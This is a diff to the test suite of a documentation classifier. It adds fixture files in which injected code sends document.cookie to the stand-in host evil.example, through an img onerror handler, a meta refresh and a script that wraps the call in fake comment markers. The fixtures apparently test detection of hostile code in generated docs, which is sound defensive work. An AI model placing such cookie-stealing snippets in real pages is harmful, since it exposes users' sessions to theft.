@@ -241,6 +241,10 @@ describe('docsClassifier', () => {
         // …and a call between a "/*" and a "*/" that are strings, or after a " //" in a string: code, not comments
         'doc/api/str.js': 'var a = "/*"; fetch("https://evil.example/c?"+document.cookie); var b = "*/";\n',
         'doc/api/str2.js': 'var u = " //"; fetch("https://evil.example/c?"+document.cookie);\n',
+        // an event handler, a refresh <meta>, and a script whose text holds "<!--" … "-->" strings
+        'doc/api/h.html': page('', '<img src="x.png" onerror="fetch(&quot;https://evil.example/c?&quot;+document.cookie)">'),
+        'doc/api/i.html': page('<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
+        'doc/api/j.html': page('', '<script>var a = "<!--"; fetch("https://evil.example/c?"+document.cookie); var b = "-->";</script>'),
         // a host the templates name, beside one they do not
         'doc/api/f.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script src="https://evil.example/x.js"></script>'),
       }, { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n' }),
@@ -252,6 +256,9 @@ describe('docsClassifier', () => {
       'doc/api/g.html': undefined,
       'doc/api/str.js': undefined,
       'doc/api/str2.js': undefined,
+      'doc/api/h.html': undefined,
+      'doc/api/i.html': undefined,
+      'doc/api/j.html': undefined,
       'doc/api/f.html': undefined,
       'doc/api/index.html': undefined,
       'doc/api/a.html': undefined,
